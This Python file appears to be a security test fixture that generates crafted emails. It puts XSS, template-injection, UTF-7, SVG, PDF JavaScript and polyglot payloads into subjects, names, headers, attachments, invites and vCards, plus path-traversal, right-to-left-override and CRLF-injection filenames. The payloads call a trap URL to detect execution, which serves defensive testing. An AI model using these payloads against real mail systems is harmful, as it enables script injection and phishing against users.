"""Letters: what stands outside the body's HTML and is shown all the same: names, subjects, files, invitations.

In:    the address of a trap
Out:   whole letters, as they come over the wire
Touch: nothing
"""

# ruff: noqa: E501 (a letter a line)

import base64
import re
from collections.abc import Mapping

_IMG = "<img src=x onerror=\"top.ran=1;fetch('TRAP/run')\">"
_SCRIPT = "<script>top.ran=1;fetch('TRAP/run')</script>"
_SVG = (
    "<svg xmlns='http://www.w3.org/2000/svg' onload=\"top.ran=1;fetch('TRAP/svg')\">"
    "<image href='TRAP/svgimg'/><script>fetch('TRAP/svgscript')</script></svg>"
)
_PAGE = f"<html><body onload=\"fetch('TRAP/page')\">{_SCRIPT}{_IMG}<img src='TRAP/pagepixel'></body></html>"
_PDF = (
    "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL('TRAP/pdf'))>>>>endobj\n"
    "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    "3 0 obj<</Type/Page/Parent 2 0 R/AA<</O<</S/URI/URI(TRAP/pdfuri)>>>>>>endobj\ntrailer<</Root 1 0 R>>\n"
)
_EVENT = (
    "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:1\r\nDTSTART:20301123T100000Z\r\n"
    f"SUMMARY:{_IMG}\r\nLOCATION:javascript:fetch('TRAP/ical')\r\nDESCRIPTION:{_SCRIPT}\r\n"
    f"ATTACH:TRAP/attach\r\nURL:javascript:fetch('TRAP/url')\r\nX-ALT-DESC;FMTTYPE=text/html:{_PAGE}\r\n"
    'ORGANIZER;CN="<img src=x onerror=top.ran=1>":mailto:a@b.example\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n'
)
#: Between these stands what is packed once the trap is known.
_BEGIN, _END = "\x0e", "\x0f"
_TO_BE_PACKED = re.compile(f"{_BEGIN}([^{_BEGIN}{_END}]*){_END}")


def _letter(
    *,
    name: str = "Mallory",
    subject: str = "Vectors of letters",
    body: str = "See it.",
    kind: str = "text/plain; charset=utf-8",
    more: str = "",
) -> str:
    return (
        f"From: {name} <mallory@customer.example>\r\nTo: support@firm.example\r\nSubject: {subject}\r\n"
        f"Date: Mon, 23 Nov 2026 08:12:00 +0100\r\nMIME-Version: 1.0\r\n{more}Content-Type: {kind}\r\n\r\n{body}\r\n"
    )


def _with_file(content: str | bytes, kind: str, *, name: str = "file.bin", more: str = "attachment") -> str:
    plain = content.decode("latin-1") if isinstance(content, bytes) else content
    return _letter(
        kind="multipart/mixed; boundary=b",
        body=(
            "--b\r\nContent-Type: text/plain\r\n\r\nSee the file.\r\n--b\r\n"
            f'Content-Type: {kind}\r\nContent-Disposition: {more}; filename="{name}"\r\n'
            f"Content-Transfer-Encoding: base64\r\nContent-ID: <x>\r\n\r\n{_BEGIN}{plain}{_END}\r\n--b--"
        ),
    )


def _packed(text: str) -> str:
    return f"=?utf-8?b?{_BEGIN}{text}{_END}?="


LETTERS: Mapping[str, str] = {
    "subject with a picture": _letter(subject=_IMG.replace('"', "'")),
    "subject with a script": _letter(subject=_SCRIPT),
    "subject in base64": _letter(subject=_packed(_IMG)),
    "subject that closes a title": _letter(subject="</title></a></li>" + _SCRIPT),
    "subject that closes an attribute": _letter(subject='" onmouseover="top.ran=1;fetch(\'TRAP/attr\')" x="'),
    "subject with a template": _letter(subject="{{ 7|add:7 }}{% debug %}${7*7}<%= 7 %>"),
    "subject the other way round": _letter(subject=_packed("\u202e\u2066gnp.exe\u2069")),
    "subject in UTF-7": _letter(subject="=?utf-7?q?+ADw-img src=3Dx onerror=3Dtop.ran=3D1+AD4-?="),
    "subject with an htmx attribute": _letter(subject="<b hx-get='TRAP/hx' hx-trigger='load'>x</b>"),
    "name with a picture": _letter(name=_packed(_IMG)),
    "name with a script": _letter(name=f'"{_SCRIPT}"'),
    "name that closes an attribute": _letter(name=_packed('" autofocus onfocus="top.ran=1" x="')),
    "name of a colleague": _letter(name='"Bo Agent (Nordhavn Support)"'),
    "name with an address": _letter(name='"bo@firm.example"'),
    "address with a script": _letter(more='Reply-To: "<script>top.ran=1</script>"@customer.example\r\n'),
    "copies with scripts": _letter(more=f"Cc: {_packed(_IMG)} <c@customer.example>\r\n"),
    "receipt asked for": _letter(
        more="Disposition-Notification-To: m@trap.example\r\nReturn-Receipt-To: m@trap.example\r\n"
    ),
    "list headers": _letter(
        more="List-Unsubscribe: <javascript:fetch('TRAP/lu')>, <TRAP/lu2>\r\nList-Unsubscribe-Post: List-Unsubscribe=One-Click\r\n"
    ),
    "face of the sender": _letter(
        more="Face: iVBORw0KGgo=\r\nX-Image-URL: TRAP/face\r\nX-Face-URL: TRAP/f2\r\n"
    ),
    "base of the letter": _letter(
        more="Content-Base: TRAP/\r\nContent-Location: TRAP/cl\r\n", kind="text/html", body="<img src=x>"
    ),
    "text with HTML": _letter(body=f"{_IMG}\n{_SCRIPT}\njavascript:fetch('TRAP/text')"),
    "text with an address that runs": _letter(body='https://good.example/"onmouseover="top.ran=1 x'),
    "text quoted that breaks out": _letter(
        body=f"Hello\n\nOn Monday, Bo wrote:\n> </details></div>{_SCRIPT}\n> {_IMG}"
    ),
    "text flowed": _letter(
        kind="text/plain; format=flowed; delsp=yes", body=f"<scr \nipt>top.ran=1</scr \nipt>{_IMG}"
    ),
    "text enriched": _letter(kind="text/enriched", body=f"<bold>{_IMG}</bold><param>TRAP/enr</param>"),
    "text in rich format": _letter(
        kind="text/rtf", body='{\\rtf1{\\field{\\*\\fldinst HYPERLINK "TRAP/rtf"}}}'
    ),
    "page in UTF-7": _letter(
        kind="text/html; charset=utf-7", body="+ADw-script+AD4-top.ran=1+ADw-/script+AD4-"
    ),
    "page in UTF-7 by itself": _letter(
        kind="text/html", body="<meta charset=utf-7>+ADw-img src=x onerror=top.ran=1+AD4-"
    ),
    "page in UTF-16": _letter(kind="text/html; charset=utf-16", body="\ufeff<\0s\0c\0r\0i\0p\0t\0>"),
    "page in a charset of none": _letter(kind='text/html; charset="x" onload=top.ran=1', body=_PAGE),
    "page in an ISO-2022 disguise": _letter(
        kind="text/html; charset=iso-2022-jp", body='<a title="\x1b$B"><img src=x onerror=top.ran=1>\x1b(B">'
    ),
    "page as XHTML": _letter(kind="application/xhtml+xml", body=_PAGE),
    "page as XML": _letter(
        kind="text/xml",
        body=f"<?xml-stylesheet href='TRAP/xsl'?><x xmlns='http://www.w3.org/1999/xhtml'>{_SCRIPT}</x>",
    ),
    "page among alternatives": _letter(
        kind="multipart/alternative; boundary=b",
        body=f"--b\r\nContent-Type: text/plain\r\n\r\nPlain.\r\n--b\r\nContent-Type: text/html\r\n\r\n{_PAGE}\r\n--b\r\nContent-Type: text/x-amp-html\r\n\r\n<html amp4email><amp-img src='TRAP/amp'></amp-img></html>\r\n--b--",
    ),
    "page with its pictures": _letter(
        kind="multipart/related; boundary=b",
        body=f"--b\r\nContent-Type: text/html\r\n\r\n<img src=cid:x><iframe src=cid:x></iframe>\r\n--b\r\nContent-Type: image/svg+xml\r\nContent-ID: <x>\r\n\r\n{_SVG}\r\n--b--",
    ),
    "body that is elsewhere": _letter(
        kind='message/external-body; access-type=URL; URL="TRAP/ext"', body="Content-Type: text/html\r\n\r\nx"
    ),
    "letter passed on": _letter(
        kind="message/rfc822", body=_letter(name=_packed(_IMG), subject=_SCRIPT, kind="text/html", body=_PAGE)
    ),
    "letter passed on as a file": _with_file(
        _letter(subject=_SCRIPT, kind="text/html", body=_PAGE), "message/rfc822", name="fwd.eml"
    ),
    "invitation": _letter(kind="text/calendar; method=REQUEST", body=_EVENT),
    "invitation as a file": _with_file(_EVENT, "text/calendar", name="invite.ics"),
    "visiting card": _with_file(
        f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:{_IMG}\r\nPHOTO;VALUE=URI:TRAP/photo\r\nURL:javascript:1\r\nEND:VCARD\r\n",
        "text/vcard",
        name="card.vcf",
    ),
    "file in SVG": _with_file(_SVG, "image/svg+xml", name="picture.svg"),
    "file in SVG, inline": _with_file(_SVG, "image/svg+xml", name="picture.svg", more="inline"),
    "file in SVG that says it is PNG": _with_file(_SVG, "image/png", name="picture.png", more="inline"),
    "file that is a page": _with_file(_PAGE, "text/html", name="page.html"),
    "file that is a page and says it is text": _with_file(_PAGE, "text/plain", name="page.txt"),
    "file that is a page and says it is a table": _with_file(_PAGE, "text/csv", name="page.csv"),
    "file that is a page and says it is a picture": _with_file(_PAGE, "image/gif", name="page.gif"),
    "file that is a page and a picture": _with_file(
        b"GIF89a/*" + _PAGE.encode() + b"*/=1;", "image/gif", name="both.gif"
    ),
    "file that is a page behind PDF": _with_file("%PDF-1.4\n" + _PAGE, "application/pdf", name="page.pdf"),
    "file in PDF with scripts": _with_file(_PDF, "application/pdf", name="bill.pdf"),
    "file that is a script": _with_file("top.ran=1;fetch('TRAP/js')", "text/javascript", name="x.js"),
    "file that is a style sheet": _with_file("@import 'TRAP/css';", "text/css", name="x.css"),
    "file that is a page archive": _with_file(_PAGE, "multipart/related", name="x.mhtml"),
    "file with a type of its own": _with_file(_PAGE, 'text/html; charset=utf-7; x="><script>', name="x"),
    "file called a path": _with_file("x", "text/plain", name="../../../etc/passwd"),
    "file called a page": _with_file("x", "text/plain", name="<img src=x onerror=top.ran=1>.txt"),
    "file called to close an attribute": _with_file(
        "x", "text/plain", name="x' onmouseover='top.ran=1' y='.txt"
    ),
    "file called the other way round": _with_file("x", "application/octet-stream", name="bill\u202efdp.exe"),
    "file called with line breaks": _with_file("x", "text/plain", name="a%0d%0aSet-Cookie: x=1.txt"),
    "file in winmail.dat": _with_file(
        b"\x78\x9f\x3e\x22" + b"\0" * 40, "application/ms-tnef", name="winmail.dat"
    ),
}


def letters(trap: str) -> dict[str, bytes]:
    """Each by its name; the trap hears which one told it."""
    return {
        f"letters: {name}": _on_the_wire(text.replace("TRAP", f"{trap}/letter{number}"), number)
        for number, (name, text) in enumerate(LETTERS.items())
    }


def _on_the_wire(text: str, number: int) -> bytes:
    while _TO_BE_PACKED.search(text):  # from within outwards
        text = _TO_BE_PACKED.sub(_packed_now, text)
    return f"Message-ID: <letter{number}@customer.example>\r\n{text}".encode("utf-8", "replace")


def _packed_now(found: re.Match[str]) -> str:
    return base64.b64encode(found[1].encode("utf-8", "replace")).decode()
